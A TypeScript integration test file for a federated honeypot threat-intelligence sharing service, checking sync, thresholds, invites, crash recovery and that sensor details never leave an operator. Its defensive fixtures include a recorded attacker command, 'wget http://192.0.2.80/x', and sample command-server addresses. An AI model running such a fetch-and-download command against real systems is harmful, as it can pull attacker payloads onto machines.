import { readdir, readFile, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { TestDaemon } from './daemons.ts'
import { field, inSync, invited, list, TestFederation, until } from './daemons.ts'

/** Three operators on loopback, with made-up rows: everything that must hold between them. */

const federation = new TestFederation()
let a: TestDaemon
let b: TestDaemon
let c: TestDaemon

const hassh = 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'
const uuid = (n: number) => `10000000-0000-4000-8000-${String(n).padStart(12, '0')}`

function attacker(n: number, extra: object = {}): object {
  return { type: 'attacker', uuid: uuid(n), ip: `192.0.2.${n}`, first_seen: '2026-06-01T10:00:00Z', ...extra }
}

function withHassh(value: string): object {
  return { fingerprints: [{ payload: { fingerprint_type: 'hassh', hash: value } }] }
}

function target(n: number, domain: string, count = 1): object {
  const at = '2026-06-02T10:00:00Z'
  return { type: 'smtp_target', attacker_uuid: uuid(n), domain, count, first_seen: at, last_seen: at }
}

const ndjson = (...rows: object[]) => rows.map((row) => JSON.stringify(row)).join('\n')

async function others(daemon: TestDaemon, kind: string, value: string): Promise<unknown> {
  return (await daemon.json('lookup', kind, value))['others']
}

beforeAll(async () => {
  a = await federation.started('alpha')
  await a.ingest(ndjson(attacker(1, withHassh(hassh)), attacker(2), attacker(3)))
  const policy = ['smtp.slot=0', 'smtp.crowd=0', 'vector.interval=0', 'publish.window_ms=50']
  await a.json('federation', 'create', '--name', 'test', ...policy.flatMap((one) => ['--policy', one]))
  b = await federation.started('bravo')
  await invited(a, b)
  c = await federation.started('charlie')
  await invited(a, c)
})
afterAll(() => federation.stopAll())

describe('a federation of three', () => {
  it('holds the same bytes everywhere, also what was published before a member came', async () => {
    await inSync([a, b, c])
    expect(await others(b, 'hassh', hassh)).toBe(1)
    expect(await others(c, 'hassh', hassh)).toBe(1)
  })

  it('tells each what the others saw, and counts itself', async () => {
    await b.ingest(ndjson(attacker(11, withHassh(hassh))))
    await until('c hears of it', async () => (await others(c, 'hassh', hassh)) === 2)
    await until('a hears of it', async () => (await others(a, 'hassh', hassh)) === 1)
    expect(await a.json('lookup', hassh)).toMatchObject({ kind: 'hassh', operators: 2, independent: 2 })
    expect(await a.json('lookup', 'ja3', hassh)).toMatchObject({
      others: 0,
      operators: 0,
      total: 0,
      records: [],
    })
  })

  it('shares a domain only if enough attackers named it, rounded, by day', async () => {
    await a.ingest(
      ndjson(target(1, 'mail.acme.com', 5), target(2, 'acme.com', 6), target(1, 'rare-target.co.uk')),
    )
    await until('b hears of acme.com', async () => (await b.json('seen', 'acme.com'))['seen'] === true)
    expect(await b.json('seen', 'www.acme.com')).toEqual({
      seen: true,
      count: 8,
      first_seen: '2026-06-02',
      last_seen: '2026-06-02',
      others: 1,
      operators: 1,
      independent: 1,
      local: { seen: false, count: 0, first_seen: null, last_seen: null },
    })
    expect(await b.json('seen', 'rare-target.co.uk')).toEqual(await b.json('seen', 'never-seen.co.uk'))
    expect((await a.json('seen', 'rare-target.co.uk'))['local']).toMatchObject({ seen: true, count: 1 })
  })

  it('takes back what falls below the threshold or is withdrawn', async () => {
    await a.ingest(ndjson(target(1, 'gone.com'), target(2, 'gone.com')))
    await until('b hears of gone.com', async () => (await b.json('seen', 'gone.com'))['seen'] === true)
    await a.json('retract', 'domain', 'gone.com')
    await until('b forgets it', async () => (await b.json('seen', 'gone.com'))['seen'] === false)
    await a.ingest(ndjson(target(3, 'gone.com')))
    await a.json('unretract', 'domain', 'gone.com')
    await until('b hears of it again', async () => (await b.json('seen', 'gone.com'))['seen'] === true)
  })

  it('lets a merged identity answer under its winner, and come back when un-merged', async () => {
    const ja3 = (n: number) => String(n).repeat(32)
    const identity = (n: number, extra: object = {}) => ({
      type: 'identity',
      uuid: uuid(n),
      ja3_hashes: [ja3(n - 900)],
      ...extra,
    })
    await a.ingest(ndjson(identity(901), identity(902)))
    const recordsOf = async (value: string) =>
      list((await b.json('lookup', 'ja3', value))['records']).map((one) => one['record'])
    await until(
      'b has both',
      async () => (await recordsOf(ja3(1))).length + (await recordsOf(ja3(2))).length === 2,
    )
    const [winner] = await recordsOf(ja3(1))
    await a.ingest(ndjson(identity(902, { merged_into_uuid: uuid(901) })))
    await until('b sees one', async () => (await recordsOf(ja3(2)))[0] === winner)
    await a.ingest(ndjson(identity(902)))
    await until('b sees two again', async () => {
      const [second] = await recordsOf(ja3(2))
      return second !== undefined && second !== winner
    })
  })

  it('shares a certificate as a tag that members can still look up by its value', async () => {
    const cert = 'c'.repeat(64)
    await a.ingest(ndjson({ type: 'identity', uuid: uuid(910), tls_cert_sha256: [cert] }))
    await until('b finds it', async () => (await others(b, 'tls_cert', cert)) === 1)
    const { stdout } = await b.cliBytes('log', 'export')
    expect(stdout.length).toBeGreaterThan(0)
    expect(stdout.includes(Buffer.from(cert, 'hex'))).toBe(false)
  })

  it('keeps keystroke rhythm and addresses of command servers at home', async () => {
    const kd = 'f9d2666ffb95c667'
    await a.ingest(
      ndjson({
        type: 'identity',
        uuid: uuid(920),
        ja3_hashes: ['9'.repeat(32)],
        kd_digraph_simhash: kd,
        c2_endpoints: ['203.0.113.66:4444', 'c2.bad-actor.com:443'],
      }),
    )
    await until('b has the identity', async () => (await others(b, 'ja3', '9'.repeat(32))) === 1)
    expect(await others(b, 'kd_simhash', kd)).toBe(0)
    expect(await a.json('lookup', 'kd_simhash', kd)).toMatchObject({ operators: 1, others: 0 })
  })

  it('finds similar SimHashes of others within a distance', async () => {
    await b.ingest(ndjson({ type: 'identity', uuid: uuid(930), payload_simhashes: ['7d793037a0760186'] }))
    await until('a finds it', async () => (await others(a, 'payload_simhash', '7d793037a0760186')) === 1)
    expect(await a.json('lookup', 'payload_simhash', '7d793037a0760187')).toMatchObject({ others: 0 })
    const near = await a.json('lookup', 'payload_simhash', '7d793037a0760187', '--distance', '2')
    expect(near).toMatchObject({ others: 1 })
    expect(list(near['records'])[0]).toMatchObject({ distance: 1 })
  })

  it('says who is in it, who is connected, and what left', async () => {
    const { members } = await c.json('members')
    expect(list(members).map(({ name, admin }) => [name, admin])).toEqual([
      ['alpha', true],
      ['bravo', false],
      ['charlie', false],
    ])
    await inSync([a, b, c])
    const { peers } = await a.json('peers')
    expect(list(peers)).toMatchObject([
      { name: 'bravo', connected: true, in_sync: true, missing: 0 },
      { name: 'charlie', connected: true, in_sync: true, missing: 0 },
    ])
    const egress = await a.json('egress', '--limit', '1000')
    expect(list(egress['data']).some(({ domain }) => domain === 'acme.com')).toBe(true)
    expect(list(egress['data']).some(({ what }) => what === 'withdrawn')).toBe(true)
    expect(field(await c.json('egress'), 'total')).toBe(0)
  })

  it('catches up a member that was away, without its ever being told twice', async () => {
    await c.stop()
    await a.ingest(ndjson(attacker(50, withHassh('b'.repeat(32)))))
    await until('b hears of it', async () => (await others(b, 'hassh', 'b'.repeat(32))) === 1)
    await c.start()
    await inSync([a, b, c])
    expect(await others(c, 'hassh', 'b'.repeat(32))).toBe(1)
  })

  it('goes on taking rows when the network process is killed, and brings it back', async () => {
    const before = Number(field((await b.status())['pids'], 'net'))
    process.kill(before, 'SIGKILL')
    await b.ingest(ndjson(attacker(60, withHassh('d'.repeat(32)))))
    expect(await b.json('lookup', 'hassh', 'd'.repeat(32))).toMatchObject({ operators: 1 })
    await until('net is back', async () => {
      const net = field((await b.status())['pids'], 'net')
      return typeof net === 'number' && net !== before
    })
    await until('a hears of it', async () => (await others(a, 'hassh', 'd'.repeat(32))) === 1)
    await inSync([a, b, c])
  })

  it('loses no acknowledged row when everything is killed at once', async () => {
    await a.ingest(ndjson(attacker(70, withHassh('e'.repeat(32)))))
    await a.stop('SIGKILL')
    await a.start()
    expect(await a.json('lookup', 'hassh', 'e'.repeat(32))).toMatchObject({ operators: 1 })
    await until('b hears of it', async () => (await others(b, 'hassh', 'e'.repeat(32))) === 1)
    await inSync([a, b, c])
  })

  it('takes back what a stricter configuration no longer allows', async () => {
    await a.ingest(
      ndjson({
        type: 'identity',
        uuid: uuid(950),
        ja3_hashes: ['c7'.repeat(16)],
        payload_simhashes: ['1234567890abcdef'],
      }),
    )
    await a.ingest(ndjson(target(1, 'customer.com'), target(2, 'customer.com')))
    await until('b has the domain', async () => (await b.json('seen', 'customer.com'))['seen'] === true)
    await until(
      'b has the SimHash',
      async () => (await others(b, 'payload_simhash', '1234567890abcdef')) === 1,
    )
    await a.stop()
    const config = join(a.dir, 'config.toml')
    const before = await readFile(config, 'utf8')
    await writeFile(
      config,
      before
        .replace('#payload_simhash = "raw"', 'payload_simhash = "off"')
        .replace('#domains = ["example.com"]', 'domains = ["customer.com"]'),
    )
    await a.start()
    await until('b lost the domain', async () => (await b.json('seen', 'customer.com'))['seen'] === false)
    await until('and the SimHash', async () => (await others(b, 'payload_simhash', '1234567890abcdef')) === 0)
    expect(await others(b, 'ja3', 'c7'.repeat(16))).toBe(1)
    await a.stop()
    await writeFile(config, before)
    await a.start()
    await until('b has both again', async () => (await b.json('seen', 'customer.com'))['seen'] === true)
    await inSync([a, b, c])
  })
})

describe('an invite', () => {
  it('is good once, for a stranger, and only from an admin', async () => {
    const { invite } = await a.json('invite')
    const used = await federation.started('delta')
    await used.json('join', String(invite))
    const late = await federation.started('echo')
    const again = await late.cli('join', String(invite), '--json')
    expect(again.code).toBe(1)
    expect(JSON.parse(again.stdout)).toMatchObject({
      error: { code: expect.stringMatching(/^(invite\.used|join\.)/) },
    })
    const twice = await used.cli('join', String(invite), '--json')
    expect(JSON.parse(twice.stdout)).toMatchObject({ error: { code: 'federation.already_in' } })
    const notAdmin = await b.cli('invite', '--json')
    expect(JSON.parse(notAdmin.stdout)).toMatchObject({ error: { code: 'federation.not_admin' } })
    await inSync([a, b, c, used])
  })

  it('that is forged lets nobody in', async () => {
    const { invite } = await a.json('invite')
    const text = String(invite)
    const bytes = Buffer.from(text.slice(text.indexOf(':') + 1), 'base64url')
    const secretAt = bytes.length - 60 // within the secret, before the expiry, the key and the name
    bytes[secretAt] = (bytes[secretAt] ?? 0) ^ 0xff
    const stranger = await federation.started('mallory')
    const result = await stranger.cli('join', `hearsay-invite-1:${bytes.toString('base64url')}`, '--json')
    expect(result.code).toBe(1)
    expect((await stranger.status())['federation']).toBeNull()
    expect(field((await a.status())['federation'], 'members')).toBe(4)
  })
})

describe('what leaves', () => {
  it('holds no address, uuid, note or name of a sensor, in text or hex, nor does any federation directory', async () => {
    await a.ingest(
      ndjson(
        attacker(80, {
          ...withHassh('f'.repeat(32)),
          deckies: ['decky-secret'],
          ptr_record: 'host-192-0-2-80.isp.test',
          commands: [{ command_text: 'wget http://192.0.2.80/x' }],
        }),
        { type: 'identity', uuid: uuid(940), ja3_hashes: ['8'.repeat(32)], notes: 'ask about 192.0.2.80' },
      ),
    )
    await until('b has it', async () => (await others(b, 'ja3', '8'.repeat(32))) === 1)
    const secrets = [
      'decky-secret',
      'host-192-0-2-80',
      'ask about',
      'command_text',
      uuid(80),
      uuid(80).replaceAll('-', ''),
    ]
    for (let n = 1; n <= 80; n++) secrets.push(`192.0.2.${n}`, Buffer.from(`192.0.2.${n}`).toString('hex'))
    const needles = secrets.flatMap((text) => [Buffer.from(text), Buffer.from(text.toUpperCase())])
    needles.push(Buffer.from(uuid(80).replaceAll('-', ''), 'hex'))
    const haystacks = [
      ...(await exportOf(a)),
      ...(await filesBelow(join(a.dir, 'federation'))),
      ...(await filesBelow(join(b.dir, 'federation'))),
    ]
    expect(haystacks.reduce((sum, bytes) => sum + bytes.length, 0)).toBeGreaterThan(1_000)
    for (const bytes of haystacks) {
      for (const needle of needles) expect(bytes.includes(needle), needle.toString()).toBe(false)
    }
  })
})

async function exportOf(daemon: TestDaemon): Promise<Buffer[]> {
  const { code, stdout } = await daemon.cliBytes('log', 'export')
  expect(code).toBe(0)
  return [stdout]
}

async function filesBelow(dir: string): Promise<Buffer[]> {
  const entries = await readdir(dir, { withFileTypes: true, recursive: true })
  const files = entries.filter((entry) => entry.isFile())
  return await Promise.all(files.map((entry) => readFile(join(entry.parentPath, entry.name))))
}
